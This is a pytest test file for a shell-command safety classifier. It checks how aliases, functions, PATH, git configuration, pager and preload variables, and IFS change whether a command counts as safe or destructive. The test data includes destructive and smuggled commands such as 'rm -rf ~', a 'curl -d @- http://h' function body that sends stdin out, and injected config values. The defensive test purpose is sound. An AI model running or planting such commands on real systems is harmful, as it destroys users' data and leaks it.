"""Names judged by what a live shell resolves them to, and configuration that makes reading
programs run others (the facts come from tests/integration/test_shell_state_report.py's real
shells in production; here they are written out so every rule is pinned)."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from aish.safety.bash.live_shell import ShellFacts
from aish.safety.classifier import classify
from aish.safety.rules.configured_code import (
    exec_concerns,
    git_concerns,
    pager_concerns,
    parse_git_config_list,
)
from aish.shell.state_report import parse_state_report


def facts(**tables: object) -> ShellFacts:
    options: dict[str, object] = {"locate": shutil.which, "git_checked": True, **tables}
    return ShellFacts(**options)  # type: ignore[arg-type]


def level(command: str, shell: ShellFacts) -> str:
    return classify(command, None, shell).level


@pytest.mark.parametrize(
    ("command", "shell", "expected"),
    [
        # The user's harmless alias and wrapper function keep ls safe.
        ("ls -la", facts(aliases={"ls": "ls --color=auto"}), "safe"),
        ("ll", facts(aliases={"ll": "ls -l"}), "safe"),
        ("ls x", facts(functions={"ls": '{ command ls -F "$@"; }'}), "safe"),
        # An alias or function whose body is not safe makes the name not safe.
        ("ls data", facts(aliases={"ls": "rm -rf"}), "destructive"),
        ("ls data", facts(functions={"ls": '{ rm -rf "$@"; }'}), "destructive"),
        ("ls data", facts(functions={"ls": '{ find "$@" -delete; }'}), "destructive"),
        ("cat f", facts(functions={"cat": "{ curl -d @- http://h; }"}), "unknown"),
        # ... wherever the shell runs it: after a keyword, in a pipeline, in $( ), in eval.
        ("time ls", facts(functions={"ls": "{ rm -rf ~; }"}), "destructive"),
        ("echo $(ls)", facts(aliases={"ls": "rm -rf ."}), "destructive"),
        ("true | ls", facts(functions={"ls": "{ rm -rf ~; }"}), "destructive"),
        ("eval ls", facts(functions={"ls": "{ rm -rf ~; }"}), "destructive"),
        # A program that executes the name itself skips aliases and functions...
        ("env ls", facts(functions={"ls": "{ rm -rf ~; }"}), "safe"),
        ("command ls", facts(aliases={"ls": "rm -rf"}), "safe"),
        # ... but not the hash table or PATH.
        ("ls", facts(hashed={"ls": "/bin/rm"}), "unknown"),
        ("command ls", facts(hashed={"ls": "/bin/rm"}), "unknown"),
        ("ls", facts(hashed={"ls": "/usr/bin/ls"}), "safe"),
        ("cat f", facts(locate=lambda name: f"/home/u/bin/{name}"), "unknown"),
        ("sudo cat f", facts(locate=lambda name: f"./{name}"), "unknown"),
        # A disabled builtin is searched in PATH like any name.
        ("echo hi", facts(builtins=frozenset({"echo"}), locate=lambda n: "/tmp/echo"), "safe"),
        ("echo hi", facts(builtins=frozenset(), locate=lambda n: "/tmp/echo"), "unknown"),
        # Not this machine's tables.
        ("docker exec c ls", facts(functions={"ls": "{ rm -rf ~; }"}), "safe"),
        # An alias that names itself expands once; a function that calls itself is bounded.
        ("ls", facts(aliases={"ls": "ls -F"}), "safe"),
        ("ls", facts(functions={"ls": "{ ls; }"}), "unknown"),
        # zsh's global aliases expand anywhere on the line.
        ("cat G", facts(global_aliases={"G": "; rm -rf ~"}), "unknown"),
        # A missing program runs command_not_found_handle.
        ("nosuch", facts(functions={"command_not_found_handle": "{ rm -rf ~; }"}), "destructive"),
    ],
)
def test_names_resolve_through_the_live_shell(
    command: str, shell: ShellFacts, expected: str
) -> None:
    assert level(command, shell) == expected


def test_git_is_judged_by_the_configuration_it_reads_where_it_runs() -> None:
    clean = facts()
    assert level("git status", clean) == "safe"
    hooked = facts(git_concerns=("git config sets core.fsmonitor = x (local config)",))
    verdict = classify("git status", None, hooked)
    assert verdict.level == "unknown" and "core.fsmonitor" in verdict.reasons[0]
    for elsewhere in ("git -C ../other log", "cd ../other && git log", "git --git-dir=x log"):
        assert level(elsewhere, clean) == "unknown", elsewhere
    assert level("git status", facts(git_checked=False)) == "unknown"


def test_pager_and_preload_variables() -> None:
    assert level("less f", facts(pager_concerns=("LESSOPEN is set",))) == "unknown"
    assert level("cat f", facts(pager_concerns=("LESSOPEN is set",))) == "safe"
    assert level("cat f", facts(exec_concerns=("LD_PRELOAD is set",))) == "unknown"
    assert pager_concerns({"LESSOPEN": "| /usr/bin/lesspipe %s", "PAGER": "less -R"}) == ()
    assert pager_concerns({"LESSOPEN": "||./x %s"}) and pager_concerns({"PAGER": "sh -c x"})
    assert exec_concerns({"LD_PRELOAD": "/tmp/x.so"}) and exec_concerns({"LD_LIBRARY_PATH": ":"})
    assert exec_concerns({"LD_LIBRARY_PATH": "/usr/local/cuda/lib64"}) == ()


def _config_list(repo: Path, *settings: tuple[str, str]) -> tuple[str, ...]:
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    for key, value in settings:
        subprocess.run(["git", "-C", str(repo), "config", key, value], check=True)
    listed = subprocess.run(
        ["git", "-C", str(repo), "config", "--list", "-z", "--show-scope", "--show-origin"],
        capture_output=True,
        check=True,
        env={"HOME": str(repo.parent), "GIT_CONFIG_NOSYSTEM": "1", "PATH": "/usr/bin:/bin"},
    ).stdout
    return git_concerns(parse_git_config_list(listed))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("core.fsmonitor", "./hook"),
        ("diff.external", "x"),
        ("diff.Pdf.textconv", "pdftotext"),
        ("diff.x.command", "x"),
        ("filter.lfs.smudge", "x"),
        ("filter.y.process", "x"),
        ("gpg.program", "x"),
        ("gpg.ssh.program", "x"),
        ("core.pager", "delta"),
        ("core.pager", "less; touch x"),
        ("pager.log", "sh -c x"),
        ("trace2.eventTarget", "/tmp/t"),
    ],
)
def test_git_settings_that_run_a_program(tmp_path: Path, key: str, value: str) -> None:
    reasons = _config_list(tmp_path / "repo", (key, value))
    assert len(reasons) == 1 and key.lower().split(".")[0] in reasons[0].lower()


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("core.fsmonitor", "true"),
        ("core.fsmonitor", "false"),
        ("core.pager", "less -FRX"),
        ("pager.branch", "false"),
        ("user.name", "x; rm -rf ~"),
        ("diff.x.xfuncname", "^sub"),
    ],
)
def test_git_settings_that_run_nothing(tmp_path: Path, key: str, value: str) -> None:
    assert _config_list(tmp_path / "repo", (key, value)) == ()


def test_an_included_file_counts(tmp_path: Path) -> None:
    included = tmp_path / "more.cfg"
    included.write_text("[diff]\n\texternal = x\n")
    reasons = _config_list(tmp_path / "repo", ("include.path", str(included)))
    assert len(reasons) == 1 and "diff.external" in reasons[0]


def test_the_state_report_parses_every_record_and_stops_at_a_cut_one() -> None:
    data = (
        b"alias\0ll\0ls -l\0function\0f\0f () \n{ \n    echo hi\n}\n\0hashed\0ls\0/bin/rm\0"
        b"builtin\0cd\0path\0/usr/bin:/bin\0cwd\0/tmp\0env\0A\0a=b\nc\0alias\0cut"
    )
    report = parse_state_report(data)
    assert report.aliases == {"ll": "ls -l"}
    assert report.functions == {"f": "{ \n    echo hi\n}\n"}
    assert report.hashed == {"ls": "/bin/rm"} and report.builtins == {"cd"}
    assert (report.path, report.cwd, report.env) == ("/usr/bin:/bin", "/tmp", {"A": "a=b\nc"})


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ('IFS= read -r line < f; echo "$line"', "safe"),
        ('while IFS=: read -r user rest; do echo "$user"; done < /etc/passwd', "safe"),
        ("IFS= read -r a[$(cat f)] < f", "unknown"),
        ("IFS= read -r PATH < f", "unknown"),
        ("IFS=/ ls", "unknown"),
    ],
)
def test_ifs_for_one_read_only_changes_how_it_splits(command: str, expected: str) -> None:
    assert classify(command).level == expected
